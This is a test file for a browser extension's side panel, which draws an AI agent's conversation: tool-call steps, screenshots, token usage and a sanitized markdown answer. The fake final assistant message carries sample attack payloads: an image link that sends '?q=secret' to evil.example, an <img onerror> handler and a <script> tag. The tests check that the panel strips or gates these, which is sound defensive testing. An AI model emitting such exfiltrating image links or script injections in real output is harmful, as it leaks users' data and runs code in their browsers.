/**
 * How the side panel draws a conversation held in the agent's message model: sanitized markdown, step lines that
 * open to their arguments, result and screenshot, usage and errors. The conversation is put into the tab's session
 * inside the worker, exactly where the agent loop puts it, so this needs no model.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'puppeteer';
import { launchWithExtension, type ExtensionBrowser } from './helpers/browser';
import { startFixtureServers } from './helpers/servers';
import { writeSettings } from './helpers/settings';
import { axeViolations, PNG_1PX, saveScreenshot } from './ui-support';

let ext: ExtensionBrowser;
let servers: Awaited<ReturnType<typeof startFixtureServers>>;
let tabId: number;
let panel: Page;

const usage = { input: 1200, output: 300, cacheRead: 800, cacheWrite: 0, costUsd: 0.0123 };
const conversation = [
  { role: 'user', id: 'u1', createdAt: 1, content: [{ type: 'text', text: 'Find pet 5 and tell me its name' }] },
  {
    role: 'assistant',
    id: 'a1',
    createdAt: 2,
    stopReason: 'tool_use',
    provider: 'fake',
    model: 'fake-model',
    usage,
    content: [{ type: 'toolCall', id: 'c0', name: 'snapshot', args: {} }],
  },
  {
    role: 'toolResult',
    id: 'r0',
    createdAt: 3,
    toolCallId: 'c0',
    toolName: 'snapshot',
    isError: false,
    kind: 'snapshot',
    text: '<untrusted_page>\nbutton "Try it out" e12\ntextbox "petId" e13\n</untrusted_page>',
  },
  {
    role: 'assistant',
    id: 'a2',
    createdAt: 4,
    stopReason: 'tool_use',
    provider: 'fake',
    model: 'fake-model',
    usage,
    content: [
      { type: 'text', text: 'Opening the operation.' },
      { type: 'toolCall', id: 'c1', name: 'click', args: { ref: 'e12' } },
    ],
  },
  {
    role: 'toolResult',
    id: 'r1',
    createdAt: 5,
    toolCallId: 'c1',
    toolName: 'click',
    isError: false,
    kind: 'screenshot',
    text: 'Clicked. The page changed.',
    image: { type: 'image', mediaType: 'image/png', data: PNG_1PX },
  },
  {
    role: 'assistant',
    id: 'a3',
    createdAt: 6,
    stopReason: 'tool_use',
    provider: 'fake',
    model: 'fake-model',
    content: [{ type: 'toolCall', id: 'c2', name: 'type', args: { ref: 'e13', text: '5' } }],
  },
  {
    role: 'toolResult',
    id: 'r2',
    createdAt: 7,
    toolCallId: 'c2',
    toolName: 'type',
    isError: true,
    kind: 'other',
    text: 'Element e13 is disabled. Hint: click Try it out first.',
  },
  {
    role: 'assistant',
    id: 'a4',
    createdAt: 8,
    stopReason: 'stop',
    provider: 'fake',
    model: 'fake-model',
    content: [
      {
        type: 'text',
        text: 'The pet is **doggie**.\n\n```sh\ncurl /pet/5\n```\n\n![leak](https://evil.example/x.png?q=secret) <img src=x onerror="window.pwned=1"> [docs](https://example.com/docs) <script>window.pwned=2</script>',
      },
    ],
  },
];

beforeAll(async () => {
  servers = await startFixtureServers();
  ext = await launchWithExtension();
  await writeSettings(ext, {
    providers: [
      { id: 'p1', kind: 'openai-compatible', baseUrl: 'http://127.0.0.1:9/v1', model: 'fake-model', apiKey: 'test' },
    ],
    defaultProviderId: 'p1',
  });
  const page = await ext.newPage(`${servers.main.url}/test/fixtures/pages/child.html?name=render`);
  tabId = await ext.tabIdOf(page);
  await ext.inWorker(
    `globalThis.tabwright.sessions.update(${tabId}, (c) => { c.messages = ${JSON.stringify(conversation)}; })`,
  );
  panel = await ext.openPanel(tabId);
  await panel.waitForSelector('.step');
});

afterAll(async () => {
  await ext?.close();
  await servers?.close();
});

describe('the side panel renders a conversation', () => {
  it('shows one compact line per tool call, named after the element on the page', async () => {
    const lines = await panel.$$eval('.step summary .step-text', (nodes) => nodes.map((n) => n.textContent));
    expect(lines).toEqual([
      'Read the page structure',
      "Clicked button 'Try it out'",
      "Typed '5' into text box 'petId'",
    ]);
    expect(await panel.$$eval('.step', (nodes) => nodes.map((n) => n.className))).toEqual([
      'step step-done',
      'step step-done',
      'step step-error',
    ]);
  });

  it('opens a step to its arguments, result and screenshot thumbnail, by keyboard', async () => {
    await panel.focus('.step[data-tool=click] summary');
    await panel.keyboard.press('Enter');
    const details = await panel.$eval('.step[data-tool=click] .step-details', (n) => ({
      text: n.textContent ?? '',
      img: n.querySelector('img')?.getAttribute('src') ?? '',
    }));
    expect(details.text).toContain('"ref": "e12"');
    expect(details.text).toContain('Clicked. The page changed.');
    expect(details.img.startsWith('data:image/png;base64,')).toBe(true);
  });

  it('renders the answer as sanitized markdown: no script, no remote image until asked, safe links, copyable code', async () => {
    const answer = await panel.$eval('.message-assistant:last-of-type .markdown', (n) => n.innerHTML);
    expect(answer).toContain('<strong>doggie</strong>');
    expect(answer).not.toMatch(/<script|onerror|evil\.example\/x\.png" *[^>]*<img/);
    expect(await panel.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
    expect(await panel.$$eval('.markdown img', (imgs) => imgs.length)).toBe(0);
    const link = await panel.$eval('.markdown a', (a) => [a.getAttribute('target'), a.getAttribute('rel')]);
    expect(link).toEqual(['_blank', 'noopener noreferrer']);
    expect(await panel.$eval('.copy-code', (b) => b.getAttribute('aria-label'))).toBe('Copy code');
    // The address carries data (?q=secret): the whole URL is shown, and loading takes a second, high-risk click.
    const button = await panel.$eval('.remote-image', (b) => [b.textContent, b.getAttribute('data-kind')]);
    expect(button).toEqual(['This image address carries data (evil.example): review it', 'high-risk']);
    expect(await panel.$eval('.remote-image-risky code', (c) => c.textContent)).toBe(
      'https://evil.example/x.png?q=secret',
    );
    await panel.click('.remote-image');
    await panel.waitForSelector('[data-load-image-confirm]');
    expect(await panel.$eval('[data-load-image-confirm]', (b) => b.textContent)).toBe(
      'Send this data to evil.example and load the image',
    );
    expect(await panel.$$eval('.markdown img', (imgs) => imgs.length)).toBe(0);
  });

  it("shows the conversation's token use and estimated cost", async () => {
    expect(await panel.$eval('.usage', (n) => n.textContent)).toBe('4,000 tokens in, 600 out · 1,600 cached · ≈ $0.02');
  });

  it('passes the accessibility check in light and dark, and keeps screenshots', async () => {
    expect(await axeViolations(panel)).toEqual([]);
    await saveScreenshot(panel, 'panel-light');
    await panel.emulateMediaFeatures([{ name: 'prefers-color-scheme', value: 'dark' }]);
    expect(await axeViolations(panel)).toEqual([]);
    await saveScreenshot(panel, 'panel-dark');
    await panel.emulateMediaFeatures([]);
  });
});
